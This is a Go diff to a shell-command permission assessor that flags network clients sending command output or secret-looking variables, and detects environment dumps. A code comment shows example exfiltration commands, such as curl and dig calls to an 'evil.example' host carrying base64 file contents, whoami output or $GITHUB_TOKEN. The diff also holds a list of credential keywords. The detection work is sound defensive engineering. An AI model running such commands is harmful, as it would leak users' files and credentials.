@@ -1,6 +1,7 @@
 package permission
 
 import (
+	"path"
 	"strings"
 
 	"mvdan.cc/sh/v3/syntax"
@@ -144,15 +145,17 @@ func (a *assessor) uploads(prog string, rest []arg) {
 			a.send(prog+" uploads "+t.shown, false)
 		}
 	}
-	if !local {
-		a.sendsSubstitutions(prog, rest)
-	}
+	a.sendsSubstitutions(prog, rest, local)
 }
 
 // sendsSubstitutions flags command output and secret-looking variables in
 // the words of a network client: curl "https://x/?d=$(cat f | base64)",
 // dig $(whoami).evil.example, curl -H "X: $GITHUB_TOKEN".
-func (a *assessor) sendsSubstitutions(prog string, rest []arg) {
+//
+// The environment and secret variables are HIGH even to loopback: a
+// listener on this machine may be anyone's. Other output to loopback
+// (local) is ordinary.
+func (a *assessor) sendsSubstitutions(prog string, rest []arg, local bool) {
 	seen := map[*syntax.Word]bool{}
 	for _, x := range rest {
 		if x.word == nil || seen[x.word] {
@@ -168,7 +171,7 @@ func (a *assessor) sendsSubstitutions(prog string, rest []arg) {
 				}
 				if secret {
 					a.flag(High, prog+" sends the environment over the network")
-				} else {
+				} else if !local {
 					a.send(prog+" sends command output over the network", false)
 				}
 				return false
@@ -184,11 +187,22 @@ func (a *assessor) sendsSubstitutions(prog string, rest []arg) {
 
 // secretLookingName reports whether a variable name looks like it holds a
 // credential.
+//
+// Names are split at _ (GITHUB_TOKEN, DEEPSEEK_API_KEY); a part that is or
+// ends with a secret word counts (APIKEY, AUTHTOKEN), so GOPRIVATE and
+// SSH_AUTH_SOCK do not.
 func secretLookingName(name string) bool {
-	u := strings.ToUpper(name)
-	for _, w := range []string{"KEY", "TOKEN", "SECRET", "PASSW", "CREDENTIAL", "AUTH", "PRIVATE", "COOKIE", "SESSION"} {
-		if strings.Contains(u, w) {
-			return true
+	for _, part := range strings.Split(strings.ToUpper(name), "_") {
+		switch part {
+		case "PASS", "PASSWD", "PWD", "CREDENTIAL", "CREDENTIALS", "COOKIE", "CREDS", "PAT":
+			if part != "PWD" || name != "PWD" && name != "OLDPWD" {
+				return true
+			}
+		}
+		for _, w := range []string{"KEY", "TOKEN", "SECRET", "PASSWORD"} {
+			if strings.HasSuffix(part, w) {
+				return true
+			}
 		}
 	}
 	return false
@@ -201,7 +215,18 @@ func (a *assessor) dumpsEnvironment(s *syntax.Stmt) bool {
 	syntax.Walk(s, func(n syntax.Node) bool {
 		switch n := n.(type) {
 		case *syntax.CallExpr:
-			prog, args := a.effective(a.exp.expandAll(n.Args))
+			words := a.exp.expandAll(n.Args)
+			if len(words) > 0 && path.Base(words[0].text) == "env" {
+				dump := true
+				for _, x := range words[1:] {
+					dump = dump && (x.isOption() || isAssignment(x.text))
+				}
+				if dump {
+					found = true
+					return false
+				}
+			}
+			prog, args := a.effective(words)
 			ops := operands(args, nil)
 			switch prog {
 			case "env", "printenv":
